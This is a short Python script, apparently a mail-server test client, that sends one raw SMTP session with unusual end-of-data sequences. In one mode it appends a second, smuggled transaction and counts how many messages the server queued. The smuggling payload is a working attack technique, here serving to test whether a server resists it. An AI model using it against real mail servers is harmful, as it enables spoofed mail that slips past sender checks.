#!/usr/bin/python3
"""One SMTP session with octets as a careless or hostile client sends them.

smtp-raw.py HOST PORT SENDER RECIPIENT FILE KIND

KIND  an odd end of message, in letters: r = CR, n = LF, . = dot. After it stands a second, smuggled transaction to RECIPIENT, then the
      proper end. Prints how many messages the server took.
      slow: half of the message, then says so, waits until FILE.go is there, then the rest. Prints the answer.
      ready: all of it but the last dot, then the same.
"""
import os, smtplib, sys, time

host, port, sender, to, path, kind = sys.argv[1:]
data = open(path, "rb").read()
s = smtplib.SMTP(host, int(port), timeout=60)
s.ehlo("client.example")
s.mail(sender)
code, text = s.rcpt(to)
if code != 250:
    print(code, text.decode()), sys.exit(1)
s.docmd("DATA")
dots = data.replace(b"\r\n.", b"\r\n..")
if kind in ("slow", "ready"):
    cut = len(dots) if kind == "ready" else len(dots) // 2
    s.send(dots[:cut])
    print("sent", flush=True)
    while not os.path.exists(path + ".go"):
        time.sleep(0.02)
    s.send(dots[cut:] + (b".\r\n" if dots.endswith(b"\r\n") else b"\r\n.\r\n"))
    code, text = s.getreply()
    print(code, text.decode())
    sys.exit(0)
end = kind.replace("r", "\r").replace("n", "\n").encode()
smuggled = (f"MAIL FROM:<{sender}>\r\nRCPT TO:<{to}>\r\nDATA\r\nFrom: {sender}\r\nTo: {to}\r\nSubject: smuggled behind it\r\n\r\n"
            "smuggled behind it\r\n").encode()
s.send(dots.rstrip(b"\r\n") + end + smuggled + b".\r\nQUIT\r\n")
taken = 0
while True:
    code, text = s.getreply()
    taken += b"queued as" in text
    if code in (221, 421):
        break
print(taken)
